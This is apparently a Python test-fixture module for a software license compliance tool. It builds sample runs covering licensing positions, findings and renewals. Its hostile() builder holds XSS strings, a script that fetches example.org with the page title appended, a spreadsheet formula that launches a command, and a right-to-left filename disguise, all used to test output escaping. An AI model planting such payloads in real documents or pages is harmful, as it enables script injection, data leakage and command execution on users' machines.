"""One hand-built run that has something to show in every section, and builders for hostile and large ones."""

from dataclasses import replace
from datetime import date
from decimal import Decimal

from sam.model import (
    AllocationLine,
    BillPoint,
    Finding,
    Interval,
    Position,
    PositionLow,
    Problem,
    Reject,
    RemedyLine,
    Renewal,
    Run,
    Severity,
    SourceAccount,
    Summary,
    UnknownTitle,
)

AS_OF = date(2026, 6, 30)

SQL_ENTERPRISE = Position(
    id="sql-server-enterprise-2022-core",
    publisher="microsoft",
    product="microsoft/sql-server",
    product_name="SQL Server",
    edition="enterprise",
    version="2022",
    metric="core",
    term="microsoft/sql-server/core-2022",
    entitled=96,
    demand=Interval(136, 152),
    solved=152,
    covered=96,
    covered_own=80,
    covered_downgrade=16,
    used_here=80,
    used_for_others=16,
    shortfall=56,
    order_quantity=56,
    unit_price=Decimal("6874.00"),
    price_source="prices/list-2026.csv:12",
    exposure=Decimal("384944.00"),
    status="unknown",
    confidence=("cores of virtual machine vm-sql-07 are not known: counted from the minimum of 4 to 20",),
    at_low=PositionLow(demand=136, covered=96, shortfall=40, surplus=0),
    buckets={
        "counted": 14,
        "same-installation": 37,
        "older-version-beside": 2,
        "component": 121,
        "patch": 64,
        "environment": 5,
        "retired-device": 1,
    },
    sources={"inventory/agents/fusion-2026-06.xml": 198, "inventory/software-hq.csv": 46},
    entitlements=("ENT-2021-004", "ENT-2023-117"),
)
WINDOWS_STANDARD = Position(
    id="windows-server-standard-2022-core",
    publisher="microsoft",
    product="microsoft/windows-server",
    product_name="Windows Server",
    edition="standard",
    version="2022",
    metric="core",
    term="microsoft/windows-server/core-2016",
    scope="org:Meridian/EMEA",
    entitled=320,
    demand=Interval.exact(288),
    solved=288,
    covered=288,
    covered_own=256,
    covered_edition_above=32,
    used_here=256,
    reserved=16,
    non_transferable=8,
    surplus=40,
    unit_price=Decimal("66.81"),
    price_source="prices/list-2026.csv:3",
    exposure=Decimal(0),
    buckets={"counted": 31, "same-installation": 31, "guest-of-licensed-host": 44, "host-only-os": 3},
    sources={"inventory/agents/fusion-2026-06.xml": 109},
    entitlements=("ENT-2022-031",),
)
OFFICE = Position(
    id="office-professional-plus-2021-device",
    publisher="microsoft",
    product="microsoft/office-professional-plus",
    product_name="Office Professional Plus",
    version="2021",
    metric="device",
    term="generic/device",
    entitled=1480,
    expired=120,
    demand=Interval.exact(1212),
    solved=1212,
    covered=1212,
    covered_own=1212,
    used_here=1212,
    surplus=268,
    unit_price=Decimal("579.00"),
    price_source="newest purchase ENT-2021-002",
    exposure=Decimal(0),
    buckets={"counted": 1212, "same-installation": 2204, "stale-device": 0},
    sources={"inventory/software-hq.csv": 3416},
    entitlements=("ENT-2021-002", "ENT-2019-044"),
)
VISIO = Position(
    id="visio-standard-2019-device",
    publisher="microsoft",
    product="microsoft/visio",
    product_name="Visio",
    edition="standard",
    version="2019",
    metric="device",
    term="generic/device",
    demand=Interval.exact(42),
    solved=42,
    covered=42,
    covered_suite=30,
    covered_other=12,
    exposure=Decimal(0),
    buckets={"counted": 42},
    sources={"inventory/software-hq.csv": 42},
)
JAVA = Position(
    id="java-se-employee",
    publisher="oracle",
    product="oracle/java-se",
    product_name="Java SE",
    metric="employee",
    term="oracle/java-se/employee-2023",
    demand=Interval(2140, None),
    solved=2140,
    shortfall=2140,
    order_quantity=2140,
    status="disputed",
    confidence=("the vendor counts every employee; the contract on file counts named users",),
    at_low=PositionLow(demand=0, covered=0, shortfall=0, surplus=0),
    buckets={"counted": 310, "free-edition": 88},
    sources={"inventory/agents/fusion-2026-06.xml": 398},
)
SKETCH = Position(
    id="ab12/cd with a blank",
    publisher="",
    product="Sketch & Cut <Pro>",
    product_name="Sketch & Cut <Pro>",
    edition="pro",
    version="11",
    metric="named-user",
    entitled=25,
    demand=Interval.exact(27),
    solved=27,
    covered=25,
    covered_own=25,
    used_here=25,
    shortfall=2,
    order_quantity=5,
    unit_price=Decimal("399.5"),
    price_source="newest purchase ENT-2024-201",
    exposure=Decimal("799.0"),
    buckets={"counted": 27, "same-user-license": 9, "trial": 1},
    sources={"inventory/software-hq.csv": 37},
    entitlements=("ENT-2024-201",),
)
CRM = Position(
    id="crm-cloud-seat",
    publisher="nimbus",
    product="nimbus/crm-cloud",
    product_name="CRM Cloud",
    metric="seat",
    term="generic/seat",
    entitled=400,
    demand=Interval.exact(361),
    solved=361,
    covered=361,
    covered_own=361,
    used_here=361,
    surplus=39,
    unit_price=Decimal("2160"),
    price_source="contract C-2024-018",
    exposure=Decimal(0),
    entitlements=("ENT-2024-310",),
)

LINES = (
    AllocationLine(
        position=SQL_ENTERPRISE.id, subject_kind="host", subject="esx-ber-01", units=32,
        covered_by={"ENT-2021-004": 32}, how="own", evidence=12, last_used=date(2026, 6, 28),
    ),
    AllocationLine(
        position=SQL_ENTERPRISE.id, subject_kind="device", subject="vm-sql-07", units=20,
        covered_by={"(short)": 20}, how="short", evidence=3,
    ),
    AllocationLine(
        position=SQL_ENTERPRISE.id, subject_kind="device", subject="vm-sql-02", units=16,
        covered_by={"ENT-2023-117": 16}, how="downgrade", evidence=9, last_used=date(2026, 5, 2),
    ),
    AllocationLine(
        position=SKETCH.id, subject_kind="user", subject="person-0f3a", units=1,
        covered_by={"ENT-2024-201": 1}, how="own", evidence=2,
    ),
    AllocationLine(
        position=VISIO.id, subject_kind="device", subject="pc-1042", units=1,
        covered_by={"ENT-2020-009": 1}, how="suite", evidence=1, last_used=date(2025, 11, 3),
    ),
)  # fmt: skip

REMEDY = (
    RemedyLine(
        publisher="microsoft", product="microsoft/sql-server", product_name="SQL Server", edition="enterprise",
        version="2025", metric="core", units=56, packs=28, pack=2, unit_price=Decimal("152.40"), per="month",
        cost=Decimal("282665.60"), first_order=Decimal("8534.40"), currency="USD", price_source="prices/offer-7.csv:4",
        covers=(SQL_ENTERPRISE.id,),
    ),
    RemedyLine(
        product="Sketch & Cut <Pro>", product_name="Sketch & Cut <Pro>", edition="pro", metric="named-user", units=5,
        packs=1, pack=5, unit_price=Decimal("399.5"), per="once", cost=Decimal("1997.5"),
        first_order=Decimal("1997.5"), currency="EUR", price_source="newest purchase ENT-2024-201",
        covers=(SKETCH.id,),
    ),
    RemedyLine(
        publisher="oracle", product="oracle/java-se", product_name="Java SE", metric="employee", units=2140,
        packs=2140, covers=(JAVA.id,),
    ),
)  # fmt: skip

FINDINGS = (
    Finding(
        id="POS001:sql-server-enterprise-2022-core", rule="POS001", family="compliance", severity=Severity.ERROR,
        subject="position:sql-server-enterprise-2022-core",
        message="SQL Server enterprise 2022 is short of 56 core licenses.",
        numbers={"shortfall": 56, "exposure": "384944.00"},
        remedy="Buy 28 packs of 2, or move vm-sql-07 to a licensed host.",
        evidence=("inventory/software-hq.csv:118", "inventory/agents/fusion-2026-06.xml#4012"),
    ),
    Finding(
        id="OVR001:office-professional-plus-2021-device", rule="OVR001", family="overspend",
        severity=Severity.WARNING, subject="position:office-professional-plus-2021-device",
        message="268 licenses of Office Professional Plus 2021 are owned and free.",
        numbers={"surplus": 268, "amount": "155172.00"},
        remedy="Harvest them before buying more, or end their maintenance.",
    ),
    Finding(
        id="OVR004:nimbus/crm-cloud", rule="OVR004", family="overspend", severity=Severity.WARNING,
        subject="position:crm-cloud-seat", message="61 seats of CRM Cloud had no activity for 90 days.",
        numbers={"unused": 61, "amount": "131760"}, remedy="Take the seats back before the renewal on 2026-12-31.",
        evidence=("inventory/seats-crm.csv:9",),
    ),
    Finding(
        id="REN001:C-2024-018", rule="REN001", family="renewal", severity=Severity.WARNING,
        subject="contract:C-2024-018",
        message="Notice for C-2024-018 is due by 2026-09-02; 339 of 400 seats are needed.",
        numbers={"days": 64, "recommended": 339}, remedy="Give notice or renew 339 seats.",
    ),
    Finding(
        id="LIF002:srv-old-3", rule="LIF002", family="lifecycle", severity=Severity.INFO, subject="device:srv-old-3",
        message="Retired device srv-old-3 still reports 4 licensable installations.", numbers={"installations": 4},
    ),
    Finding(
        id="DAT003:inventory/software-hq.csv", rule="DAT003", family="data-quality", severity=Severity.INFO,
        subject="file:inventory/software-hq.csv", message="2 records of inventory/software-hq.csv were rejected.",
        numbers={"rejected": 2}, evidence=("inventory/software-hq.csv:77", "inventory/software-hq.csv:1904"),
    ),
    Finding(
        id="POS001:java-se-employee", rule="POS001", family="compliance", severity=Severity.ERROR,
        subject="position:java-se-employee", message="Java SE is short of 2,140 employee licenses.",
        numbers={"shortfall": 2140}, remedy="Settle the reading of the contract first.",
        waived_by="license office until 2026-12-31: reading disputed, case 4711",
    ),
)  # fmt: skip

RENEWALS = (
    Renewal(
        contract_id="C-2024-018", vendor="Nimbus", title="CRM Cloud subscription", ends_on=date(2026, 12, 31),
        notice_by=date(2026, 9, 2), auto_renews=True, owner="person-77b1", quantity=400, recommended=339,
        bill=(
            BillPoint(quantity=338, cost=Decimal("734400")),
            BillPoint(quantity=339, cost=Decimal("732240")),
            BillPoint(quantity=340, cost=Decimal("734400")),
        ),
        value=Decimal("864000"), currency="EUR",
    ),
    Renewal(
        contract_id="EA-7781", vendor="Microsoft", title="Enterprise agreement", ends_on=date(2027, 9, 30),
        notice_by=date(2027, 7, 2), auto_renews=False, quantity=1896, value=Decimal("1240000.00"), currency="USD",
    ),
    Renewal(
        contract_id="M-112", vendor="Sketchworks", title="Maintenance", ends_on=date(2026, 7, 31),
        notice_by=date(2026, 5, 2), auto_renews=True, quantity=25, recommended=25,
    ),
    Renewal(contract_id="OLD-9", vendor="Oracle", ends_on=date(2026, 3, 31), quantity=0),
    Renewal(contract_id="LONG-1", vendor="Harbour Maps", ends_on=date(2031, 1, 31), quantity=10, recommended=10),
)  # fmt: skip

SOURCES = (
    SourceAccount(
        file="inventory/software-hq.csv", sha256="5c1a" * 16, format="table:software", rows=3621, accepted=3619,
        rejected=(
            Reject(line=77, reason="device_id is blank; give the device's id"),
            Reject(line=1904, reason="installed_on is '31.02.2026', expected a day such as 2026-02-28"),
        ),
        rejected_count=2, dropped={"email": 211, "product_key": 14}, observed_on=date(2026, 6, 29),
    ),
    SourceAccount(
        file="inventory/agents/fusion-2026-06.xml", sha256="9be0" * 16, format="fusioninventory", rows=8240,
        accepted=8240, observed_on=date(2026, 6, 30), unchanged=True,
    ),
    SourceAccount(
        file="entitlements/purchases.csv", sha256="77f3" * 16, format="table:entitlements", rows=57, accepted=57,
    ),
    SourceAccount(file="notes/readme.docx", sha256="00aa" * 16, format="unknown", rows=0, accepted=0),
)  # fmt: skip

PROBLEMS = (
    Problem(
        code="unknown-device-id", severity=Severity.WARNING, where="inventory/software-hq.csv:412",
        message="device 'pc-9001' is not in devices; its rows count and all its facts are unknown",
        remedy="add it to devices.csv",
    ),
    Problem(
        code="no-observed-on", severity=Severity.INFO, where="entitlements/purchases.csv",
        message="the source has no observed_on; it counts as observed on 2026-06-30",
    ),
)  # fmt: skip

TITLES = (
    UnknownTitle(name="Frobnicator Deluxe 3", publisher="", devices=14, rows=31),
    UnknownTitle(name="Lagerplan Client", publisher="Hausmann GmbH", devices=140, rows=288),
)

RUN = Run(
    as_of=AS_OF,
    version="0.1.0",
    workspace="Meridian Freight",
    currency="EUR",
    inputs={
        "terms/generic.yaml": "1d" * 32,
        "inventory/software-hq.csv": "5c1a" * 16,
        "entitlements/purchases.csv": "77f3" * 16,
        "catalog/microsoft.yaml": "e0" * 32,
    },
    summary=Summary(
        devices=1874, people=2140, installations=1636, products=7, entitlements=57, contracts=5,
        true_up_cost=Decimal("284663.10"), true_up_unpriced_units=2140, exposure=Decimal("385743.0"),
        exposure_unpriced_units=2140, overspend=Decimal("286932.00"), priority_order_cost=Decimal("341120.55"),
        priority_orders={"suites-first": Decimal("341120.55"), "exact-first": Decimal("352008.00")},
        coverage={"rows": "0.9731", "titles": "0.912", "spend": "0.986"},
        rows={"licensable": 3899, "free": 2711, "component": 3020, "patch": 1402, "driver": 510, "unknown": 319},
        findings={"error": 1, "warning": 3, "info": 2}, status="unknown",
    ),
    sources=SOURCES,
    positions=(VISIO, SKETCH, SQL_ENTERPRISE, OFFICE, WINDOWS_STANDARD, CRM, JAVA),
    totals=(
        replace(SQL_ENTERPRISE, id="sql-server-enterprise-core", version=None, confidence=(), at_low=None),
        replace(OFFICE, id="office-professional-plus-device", version=None),
    ),
    lines=LINES,
    remedy=REMEDY,
    findings=FINDINGS,
    renewals=RENEWALS,
    problems=PROBLEMS,
    unknown_titles=TITLES,
    rates={"USD": "0.92 (2026-06-30)"},
    terms={
        "generic/device": "One license for each device on which the product is installed. (Generic term)",
        "generic/seat": "One license for each person who holds a seat. (Generic term)",
        "microsoft/sql-server/core-2022": "Every physical core, or every virtual core with at least four for each "
        "virtual machine, needs a core license. (Example guide, section 2, read 2026-06-01)",
        "microsoft/windows-server/core-2016": "Every physical core of the host, at least 8 for each processor and 16 "
        "for each server; a Standard set gives two instances. (Example guide, section 3, read 2026-06-01)",
    },
    changes=("SQL Server enterprise 2022: shortfall 40 → 56", "new contract M-112"),
    previous=True,
)  # fmt: skip


def empty() -> Run:
    """A run over an empty workspace."""
    return Run(as_of=AS_OF, version="0.1.0", workspace="empty", currency="EUR", inputs={}, summary=Summary())


def hostile() -> Run:
    """A run whose names try to break out of whatever shows them."""
    script = "<script>fetch('https://example.org/'+document.title)</script>"
    formula = "=cmd|'/C calc'!A0"
    turned = "invoice\u202efdp.exe"
    endless = "x" * 10_000
    bad = Position(
        id="'\"><img src=x onerror=alert(1)>", publisher=formula, product=script, product_name=script,
        edition="\"' onmouseover=alert(1) x='", version="javascript:alert(1)", metric="device", scope=turned,
        entitled=1, demand=Interval.exact(3), solved=3, covered=1, covered_own=1, used_here=1, shortfall=2,
        price_source=script, buckets={"counted": 3, script: 4}, sources={f"{script}.csv": 7},
        entitlements=("@SUM(1)", "-2+3", script), confidence=("\x00\x1b[31m" + turned,), term=script,
    )  # fmt: skip
    long = replace(bad, id="long", product=endless, product_name=endless, edition=None, version=None)
    return replace(
        RUN,
        workspace="</title><script>alert(1)</script>",
        positions=(bad, long, OFFICE),
        totals=(),
        lines=(
            AllocationLine(position=bad.id, subject_kind="device", subject=script, units=1, covered_by={script: 1},
                           how="own"),
        ),
        remedy=(RemedyLine(product=script, product_name=turned, metric="device", units=2, packs=2, covers=(bad.id,)),),
        findings=(
            Finding(id=script, rule="X1", family="compliance", severity=Severity.ERROR, subject=f"position:{bad.id}",
                    message=f"{turned} {script}", numbers={script: script}, remedy="+1+cmd", evidence=(formula,)),
            Finding(id="t", rule="X2", family=script, severity=Severity.INFO, subject=f"title:{endless}",
                    message=endless),
        ),
        renewals=(Renewal(contract_id=script, title=turned, ends_on=date(2026, 12, 1), notice_by=date(2026, 8, 1)),),
        sources=(
            SourceAccount(file="bad-\udcff-name.csv", sha256="ab" * 32, format="table:software", rows=1, accepted=0,
                          rejected=(Reject(line=1, reason=script),), rejected_count=1, dropped={script: 1}),
        ),
        problems=(Problem(code="x", severity=Severity.ERROR, where=script, message=script, remedy=script),),
        unknown_titles=(UnknownTitle(name=formula, publisher="\t=1+1", devices=1, rows=1),),
        terms={script: script},
        rates={"XXX": script},
        inputs={script: "cd" * 32, "bad-\udcff-name.csv": "ab" * 32},
        changes=(script,),
    )  # fmt: skip


def large(count: int) -> Run:
    """A run with so many positions, every third short, every third with a surplus, and subjects for each."""
    positions = tuple(
        replace(
            (SQL_ENTERPRISE, OFFICE, VISIO)[n % 3], id=f"position-{n:05d}", product=f"publisher/product-{n:05d}",
            product_name=f"Product of some length number {n:05d}",
        )
        for n in range(count)
    )  # fmt: skip
    lines = tuple(
        replace(LINES[0], position=f"position-{n:05d}", subject=f"device-{n:05d}-{k:02d}")
        for n in range(count)
        for k in range(50)
    )
    return replace(RUN, positions=positions, lines=lines)
